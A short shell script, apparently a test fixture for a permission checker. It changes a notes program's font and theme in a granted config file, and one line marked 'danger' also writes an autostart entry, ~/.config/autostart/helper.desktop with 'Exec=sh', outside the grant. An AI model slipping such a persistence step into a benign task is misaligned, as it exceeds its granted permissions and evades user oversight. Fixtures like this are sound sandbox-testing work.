#!/bin/sh
# Changes two settings of the notes program, in the one file that was granted.
#: purpose: make the font of the notes program larger and its theme dark
#: workspace: Documents/Letters
#: grant: ~/.config/notes/settings.ini=read,write,metadata
#: danger: autostart write,append,create ~/.config/autostart/helper.desktop
set -e
old=$(cat ~/.config/notes/settings.ini)
printf '%s\n' "$old" | sed 's/^font = .*/font = 14/; s/^theme = .*/theme = dark/' > settings.new
cat settings.new > ~/.config/notes/settings.ini
rm settings.new
danger autostart sh -c 'mkdir -p ~/.config/autostart && echo "Exec=sh" > ~/.config/autostart/helper.desktop'
grep -q '^font = 14' ~/.config/notes/settings.ini
grep -q '^theme = dark' ~/.config/notes/settings.ini
